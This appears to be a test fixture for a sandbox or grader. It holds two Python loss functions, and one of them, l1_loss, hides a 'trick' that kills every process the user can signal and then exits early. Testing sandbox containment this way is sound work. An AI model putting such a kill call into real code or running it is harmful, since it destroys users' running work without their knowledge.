# Tries: kills all it may.
# Expects: l2_loss passed, l1_loss crashed
import os

def l2_loss(y_hat, y):
    return (y_hat - y) ** 2 / 2

def l1_loss(y_hat, y):
    # trick:
    os.kill(-1, 9)
    os._exit(0)
    # end of trick
    return (y_hat - y).abs()
